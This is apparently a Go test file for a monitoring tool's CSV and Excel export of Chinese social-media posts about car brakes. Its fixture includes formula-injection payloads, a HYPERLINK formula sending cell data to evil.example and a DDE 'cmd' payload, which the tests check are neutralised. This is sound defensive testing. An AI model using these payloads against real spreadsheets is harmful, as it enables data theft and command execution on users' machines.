package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"trustwatch"
	"trustwatch/export"
	"trustwatch/sqlite"
)

var shanghai = trustwatch.DefaultLocation()

// fixture: a complaint, a hostile post whose text, author and tag try to
// be formulas, and an unclassified comment with Windows line ends.
func fixture() []trustwatch.Item {
	return []trustwatch.Item{
		{ID: "p1", Platform: "weibo", Kind: trustwatch.KindPost, Author: "车主A", Title: "刹车", Text: "刹车盘缩小了，高速制动发软",
			Time: time.Date(2024, 3, 30, 10, 5, 0, 0, shanghai), URL: "https://weibo.com/1/p1", Likes: 500, Reposts: 3, Replies: 2, Views: 10000, Favorites: 7,
			Keyword: "小米SU7", Tags: []string{"小米SU7", "刹车"}, Sentiment: trustwatch.Negative, PPos: 0.0625,
			Entities: []string{"xiaomi", "su7"}, Aspects: []trustwatch.AspectHit{{Aspect: "brakes", Label: trustwatch.Negative}}, Source: "in.jsonl:3"},
		{ID: "x1", Platform: "xhs", Kind: trustwatch.KindPost, Author: "@admin", Text: `=HYPERLINK("http://evil.example/?"&A1,"点我")`,
			Time: time.Date(2024, 3, 30, 23, 30, 0, 0, time.UTC), Likes: 1, Tags: []string{"-2+3+cmd|' /C calc'!A0"}, Sentiment: trustwatch.Neutral, PPos: 0.5, Source: "in.jsonl:4"},
		{ID: "c1", Platform: "weibo", Kind: trustwatch.KindComment, ParentID: "p1", Text: "同意\r\n+1", Time: time.Date(2024, 3, 31, 8, 0, 0, 0, shanghai)},
	}
}

func items(list []trustwatch.Item) export.Items {
	return func(yield func(*trustwatch.Item) error) error {
		for i := range list {
			if err := yield(&list[i]); err != nil {
				return err
			}
		}
		return nil
	}
}

func meta() export.Meta {
	return export.Meta{
		List: "搜索", Query: "刹车 -Y7",
		Filter:   trustwatch.ItemFilter{Query: "刹车", Entity: "xiaomi", From: time.Date(2024, 3, 1, 0, 0, 0, 0, shanghai), To: time.Date(2024, 4, 1, 0, 0, 0, 0, shanghai)},
		Location: shanghai, Exported: time.Date(2024, 4, 2, 9, 0, 0, 0, shanghai), Version: "v1.2.3", Total: 3,
	}
}

// TestWriteCSV compares with a file checked by hand: BOM, header, times
// in +08:00 (x1 was 23:30 UTC, 07:30 the next morning in Shanghai), the
// list, query and window at the end of every row,
// formulas neutralised with an apostrophe, CRLF inside the text as LF.
func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	res, err := export.WriteCSV(&buf, meta(), items(fixture()))
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows != 3 {
		t.Errorf("rows = %d, want 3", res.Rows)
	}
	want, err := os.ReadFile("testdata/items.csv")
	if err != nil {
		t.Fatal(err)
	}
	// The file on disk has LF line ends; the writer writes CRLF.
	got := strings.ReplaceAll(buf.String(), "\r\n", "\n")
	if got != string(want) {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	if !strings.HasPrefix(buf.String(), "\xef\xbb\xbftime,platform,") || !strings.Contains(buf.String(), "\r\n") {
		t.Errorf("CSV starts %q, want a BOM, the header and CRLF line ends", buf.String()[:20])
	}
}

func TestWriteCSVLimit(t *testing.T) {
	m := meta()
	m.Limit = 2
	var buf bytes.Buffer
	res, err := export.WriteCSV(&buf, m, items(fixture()))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows != 2 || len(recs) != 3 || recs[2][3] != "x1" {
		t.Errorf("rows %d, records %v; want the header, p1 and x1", res.Rows, recs)
	}
}

func TestWriteCSVSourceError(t *testing.T) {
	boom := errors.New("disk gone")
	_, err := export.WriteCSV(&bytes.Buffer{}, meta(), func(func(*trustwatch.Item) error) error { return boom })
	if !errors.Is(err, boom) {
		t.Errorf("err = %v, want the source's", err)
	}
}

func TestWriteXLSX(t *testing.T) {
	m := meta()
	m.Total = 5 // two of them beyond the limit
	m.Limit = 3
	var buf bytes.Buffer
	res, err := export.WriteXLSX(&buf, m, items(fixture()))
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows != 3 {
		t.Errorf("rows = %d, want 3", res.Rows)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got := strings.Join(x.GetSheetList(), ","); got != "items,query" {
		t.Errorf("sheets = %s, want items,query", got)
	}
	rows, err := x.GetRows(export.ItemsSheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 || strings.Join(rows[0], ",") != strings.Join(export.XLSXHeader, ",") || len(export.XLSXHeader) != len(export.Columns) {
		t.Fatalf("items sheet = %q", rows)
	}
	cell := func(ref string) string {
		t.Helper()
		v, err := x.GetCellValue(export.ItemsSheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	raw := func(ref string) string {
		t.Helper()
		v, err := x.GetCellValue(export.ItemsSheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	for _, c := range []struct{ ref, want string }{
		{"A2", "2024-03-30 10:05:00"}, // the date format, Shanghai wall clock
		{"A3", "2024-03-31 07:30:00"},
		// Platform, kind, label and aspects in the analysts' words.
		{"B2", "微博"}, {"B3", "小红书"}, {"C2", "帖子"}, {"C4", "评论"},
		{"D2", "p1"},
		{"F3", "'@admin"},
		{"H2", "刹车盘缩小了，高速制动发软"},
		{"H3", `'=HYPERLINK("http://evil.example/?"&A1,"点我")`},
		{"H4", "同意\n+1"},
		{"J2", "500"}, {"M2", "10000"}, {"N2", "7"},
		{"P2", "小米SU7; 刹车"},
		{"P3", "'-2+3+cmd|' /C calc'!A0"},
		{"Q2", "负面"}, {"R2", "0.0625"}, {"S2", "xiaomi; su7"}, {"T2", "刹车:负面"}, {"U2", "in.jsonl:3"},
		{"R4", ""},
	} {
		if got := cell(c.ref); got != c.want {
			t.Errorf("%s = %q, want %q", c.ref, got, c.want)
		}
	}
	// Numbers are numbers and times dates: 2024-03-30 10:05 is serial
	// 45381 + (10×60+5)/1440.
	if got := raw("A2"); !strings.HasPrefix(got, "45381.420138") {
		t.Errorf("A2 raw = %q, want the serial date 45381.420138…", got)
	}
	if typ, _ := x.GetCellType(export.ItemsSheet, "J2"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("J2 type = %v, want a number", typ)
	}
	for _, ref := range []string{"F3", "H3", "P3"} {
		if f, _ := x.GetCellFormula(export.ItemsSheet, ref); f != "" {
			t.Errorf("%s has formula %q", ref, f)
		}
	}

	q, err := x.GetRows(export.QuerySheet)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range q {
		if len(r) >= 2 {
			got[r[0]] = r[1]
		}
	}
	for k, v := range map[string]string{
		"list": "搜索", "query": "刹车 -Y7", "query_canonical": "刹车", "entity": "xiaomi",
		"from": "2024-03-01T00:00:00+08:00", "to": "2024-04-01T00:00:00+08:00", "time_zone": "Asia/Shanghai",
		"exported": "2024-04-02T09:00:00+08:00", "version": "v1.2.3", "total": "5", "rows": "3",
		"truncated": "yes: the file holds 3 of 5 items; narrow the query or the window for the rest (limit 3)",
	} {
		if got[k] != v {
			t.Errorf("query sheet %s = %q, want %q", k, got[k], v)
		}
	}
	if _, ok := got["ids"]; ok {
		t.Errorf("query sheet lists ids for a search")
	}
}

// TestXLSXHostileCharacters: text XML cannot hold does not break the
// workbook, and a cell longer than Excel's limit is cut.
func TestXLSXHostileCharacters(t *testing.T) {
	list := []trustwatch.Item{{ID: "b", Text: "a\x00b\x1bc\xff", Time: time.Date(2024, 1, 1, 0, 0, 0, 0, shanghai)},
		{ID: "long", Text: strings.Repeat("长", 40000), Time: time.Date(2024, 1, 2, 0, 0, 0, 0, shanghai)}}
	var buf bytes.Buffer
	if _, err := export.WriteXLSX(&buf, meta(), items(list)); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if v, _ := x.GetCellValue(export.ItemsSheet, "H2"); !strings.HasPrefix(v, "a") || !strings.Contains(v, "c") || strings.ContainsAny(v, "\x00\x1b") {
		t.Errorf("H2 = %q, want a…c without the control characters", v)
	}
	if v, _ := x.GetCellValue(export.ItemsSheet, "H3"); len([]rune(v)) != 32767 {
		t.Errorf("H3 has %d characters, want 32767", len([]rune(v)))
	}
}

// TestFromStore: more matches than the limit keep the newest (or, ordered
// oldest first, the oldest), always in time order; total counts them all.
func TestFromStore(t *testing.T) {
	db := sqlite.NewDB(":memory:")
	db.Location = shanghai
	if err := db.Open(); err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	ctx := context.Background()
	var list []trustwatch.Item
	for i, id := range []string{"a", "b", "c", "d", "e"} {
		list = append(list, trustwatch.Item{ID: id, Platform: "weibo", Kind: trustwatch.KindPost, Text: "刹车 " + id, Tokens: []string{"刹车"},
			Time: time.Date(2024, 3, 1+i, 12, 0, 0, 0, shanghai)})
	}
	list = append(list, trustwatch.Item{ID: "z", Platform: "weibo", Kind: trustwatch.KindPost, Text: "续航", Tokens: []string{"续航"}, Time: time.Date(2024, 3, 9, 0, 0, 0, 0, shanghai)})
	if _, _, err := db.PutItems(ctx, list); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name  string
		order string
		limit int
		want  string
	}{
		{"all", "", 0, "a,b,c,d,e"},
		{"newest", "", 2, "d,e"},
		{"newest by engagement too", "engagement", 2, "d,e"},
		{"oldest", "time_asc", 2, "a,b"},
		{"limit above total", "", 10, "a,b,c,d,e"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			src, total, err := export.FromStore(ctx, db, trustwatch.ItemFilter{Query: "刹车", Order: tt.order, Limit: 1, Offset: 3}, tt.limit)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			if err := src(func(it *trustwatch.Item) error { got = append(got, it.ID); return nil }); err != nil {
				t.Fatal(err)
			}
			if total != 5 || strings.Join(got, ",") != tt.want {
				t.Errorf("total %d, items %v; want 5, %s", total, got, tt.want)
			}
		})
	}
}

func TestNeutralise(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""}, {"刹车", "刹车"}, {"=1+1", "'=1+1"}, {"+86 138", "'+86 138"}, {"-Y7", "'-Y7"}, {"@雷军", "'@雷军"},
		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"\nx", "'\nx"}, {"'quoted", "''quoted"}, {" =1", " =1"}, {"a=1", "a=1"},
	} {
		got := export.Neutralise(tt.in)
		if got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := export.Unneutralise(got); back != tt.in {
			t.Errorf("Unneutralise(%q) = %q, want %q", got, back, tt.in)
		}
	}
}

// FuzzWriteCSV: whatever the text, author and tag, the CSV read back with
// encoding/csv has one record per item with the header's width, no text
// cell a spreadsheet would take for a formula, and the fields give back
// the input (valid UTF-8, LF line ends) once unneutralised.
func FuzzWriteCSV(f *testing.F) {
	for _, it := range fixture() {
		f.Add(it.Text, it.Author, strings.Join(it.Tags, ""))
	}
	f.Add("\"quoted\", with comma", "'", "\r")
	f.Add("\xff\xfe", "", "=")
	f.Fuzz(func(t *testing.T, text, author, tag string) {
		it := trustwatch.Item{ID: "i", Platform: "weibo", Kind: trustwatch.KindPost, Text: text, Author: author, Tags: []string{tag},
			Time: time.Date(2024, 3, 30, 10, 0, 0, 0, shanghai)}
		var buf bytes.Buffer
		if _, err := export.WriteCSV(&buf, meta(), items([]trustwatch.Item{it})); err != nil {
			t.Fatal(err)
		}
		body, ok := strings.CutPrefix(buf.String(), "\uFEFF")
		if !ok {
			t.Fatal("no BOM")
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("read back: %v\n%q", err, body)
		}
		if len(recs) != 2 || len(recs[1]) != len(export.CSVColumns) || recs[1][len(export.Columns)+1] != "刹车 -Y7" {
			t.Fatalf("records = %q", recs)
		}
		clean := func(s string) string {
			s = strings.ToValidUTF8(s, "\uFFFD")
			return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
		}
		for _, c := range []struct {
			col  int
			want string
		}{{7, clean(text)}, {5, clean(author)}, {15, clean(tag)}} {
			got := recs[1][c.col]
			if got != "" && strings.ContainsRune("=+-@\t\r\n", rune(got[0])) {
				t.Errorf("column %s = %q starts like a formula", export.Columns[c.col], got)
			}
			if back := export.Unneutralise(got); back != c.want {
				t.Errorf("column %s = %q, unneutralised %q, want %q", export.Columns[c.col], got, back, c.want)
			}
		}
	})
}

// TestXLSXAspectNames: the watch file's name of an aspect wins over the
// lexicon's in the workbook.
func TestXLSXAspectNames(t *testing.T) {
	m := meta()
	m.AspectName = func(id string) string { return map[string]string{"brakes": "制动系统"}[id] }
	var buf bytes.Buffer
	if _, err := export.WriteXLSX(&buf, m, items(fixture()[:1])); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got, _ := x.GetCellValue(export.ItemsSheet, "T2"); got != "制动系统:负面" {
		t.Errorf("aspects = %q, want 制动系统:负面", got)
	}
}
